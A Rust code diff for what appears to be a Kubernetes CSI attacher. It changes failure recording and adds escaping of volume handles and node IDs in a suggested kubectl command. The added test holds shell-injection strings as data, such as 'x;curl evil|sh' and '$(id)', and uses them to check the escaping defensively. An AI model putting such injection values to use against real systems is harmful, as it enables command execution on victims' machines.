@@ -7,7 +7,7 @@ use super::{Attempt, FailureCause, Note, Phase, Publish, Seen, Verdict};
 use crate::api::names::NOT_ATTACHED_AT_ANNOTATION;
 use crate::decide::{
     self, Action, DetachWait, Failure, MAX_ERROR_BYTES, OwnedVolumeOnNode, PublishRequest, ReleaseEvidence,
-    UnpublishRequest, VolumeOnNode, cut,
+    UnpublishRequest, VolumeOnNode, command_word, cut, shown_handle,
 };
 use crate::objects::{ResourceVersion, StringMap};
 
@@ -80,16 +80,19 @@ impl Attempt {
 
     /// The driver has answered to ControllerPublishVolume.
     pub(super) fn published(&mut self, view: &dyn View, answer: Result<StringMap, CallEnd>) -> Step {
-        let failure = match answer {
+        let context = match answer {
             Err(CallEnd::LeaseLost(lost)) => return self.lost_while_publishing(view, lost),
-            Err(CallEnd::Failed(failure)) => failure,
-            // A publish context that the API server can never store is a failure of the driver, to be seen by people.
-            Ok(context) => match decide::check_publish_context(&context) {
-                Err(failure) => failure,
-                Ok(()) => return self.record_published(view, context),
-            },
+            Err(CallEnd::Failed(failure)) => return self.record_failure(view, failure, FailureCause::Other),
+            Ok(context) => context,
         };
-        self.record_failure(view, failure, FailureCause::Other)
+        match decide::check_publish_context(&context) {
+            Ok(()) => self.record_published(view, context),
+            // One that the API server can never store is a failure of the driver, to be seen by people.
+            Err(failure) => {
+                let failure = FailureCause::not_recorded(&failure.message);
+                self.record_failure(view, failure, FailureCause::NotRecorded)
+            }
+        }
     }
 
     /// Takes a volume back from where earlier tries may have left it, from this number on. That this fails holds nothing up: the
@@ -231,24 +234,79 @@ impl Attempt {
     }
 }
 
+/// Bytes that are left to who writes the failure somewhere: the ID of a trace behind it on the attachment, and volume and node before it in
+/// the Event. What is too long is cut at its end, where the command is.
+const ROOM_FOR_WRITERS: usize = 448;
+
 /// A failure at a former place, which the driver may refuse for ever, with what a person can do about it.
 fn of_former(failure: &Failure, name: &str, place: VolumeOnNode<'_>, current: VolumeOnNode<'_>) -> Failure {
-    let word = decide::former_place(place, current).unwrap_or_default();
-    let (id, handle) = (place.node_id, place.volume_id);
-    // A handle may have anything in it.
-    let (what, quote) = if id == current.node_id {
-        let what =
-            format!("the PersistentVolume was made again with another handle, and volume {handle} may be attached too");
-        (what, "'")
+    let word = decide::former_place(place, current).map(decide::FormerPlace::in_command);
+    let (word, name) = (word.unwrap_or_default(), command_word(name, "NAME"));
+    let (id, handle) = (shown_handle(place.node_id), shown_handle(place.volume_id));
+    let what = if place.node_id == current.node_id {
+        format!("the PersistentVolume has another handle than was noted, and volume {handle} may be attached too")
     } else {
-        (format!("node ID {id} is a former one of the node"), "")
+        format!("node ID {id} is a former one of the node")
     };
     let hint = format!(
-        "; {what}: if the volume is not attached there, run kubectl annotate volumeattachment {name} {NOT_ATTACHED_AT_ANNOTATION}={quote}{word}{quote}"
+        "; {what}: if the volume is not attached there, run kubectl annotate volumeattachment {name} {NOT_ATTACHED_AT_ANNOTATION}={word}"
     );
-    let message = cut(&failure.message, MAX_ERROR_BYTES.saturating_sub(hint.len()));
+    let message = cut(
+        &failure.message,
+        MAX_ERROR_BYTES.saturating_sub(hint.len() + ROOM_FOR_WRITERS),
+    );
     Failure {
         message: format!("{message}{hint}"),
         code: failure.code,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::record::with_trace_id;
+    use super::*;
+    use crate::findings::FailureNote;
+    use crate::objects::Operation;
+    use std::time::Duration;
+
+    /// Whoever registers a node chooses its ID, and whoever writes a PersistentVolume its handle: a person may paste the command.
+    #[test]
+    fn a_command_has_no_word_of_a_stranger_that_a_shell_does_not_take_as_it_is() {
+        let long = "h".repeat(2_000);
+        // Of the former place the handle and node ID, and what the command sets the annotation to.
+        let rows = [
+            ("handle", "form-1/id", "form-1/id"),
+            ("handle", "x;curl evil|sh", "ID"),
+            ("handle", "$(id)", "ID"),
+            ("other", "id1", "other@id1"),
+            ("it's", "id1", "HANDLE@id1"),
+            ("';id;'", "id1", "HANDLE@id1"),
+            (&*long, "id1", "HANDLE@id1"),
+        ];
+        let current = VolumeOnNode::new("handle", "id1").unwrap();
+        let failure = Failure::plain("no such instance".repeat(100));
+        let longest = "n".repeat(128);
+        for (handle, node_id, word) in rows {
+            let place = VolumeOnNode::new(handle, node_id).unwrap();
+            let told = of_former(&failure, "va-1", place, current).message;
+            let command = format!("run kubectl annotate volumeattachment va-1 attacher.csi.dev/not-attached-at={word}");
+            assert!(told.ends_with(&command), "{told}");
+            assert!(told.len() <= MAX_ERROR_BYTES, "{} bytes", told.len());
+            // Nor is it cut off by what others write beside it.
+            let traced = with_trace_id(&Failure::plain(&*told), Some("0".repeat(32))).message;
+            let note = FailureNote {
+                volume: Some(&longest),
+                attempt: 1_000,
+                operation: Operation::Detach,
+                node: &longest,
+                uncertain: false,
+                delay: Duration::from_mins(5),
+                message: &told,
+            };
+            let event = note.to_string();
+            for text in [&*traced, cut(&event, MAX_ERROR_BYTES)] {
+                assert!(text.contains(&command), "{text}");
+            }
+        }
     }
 }
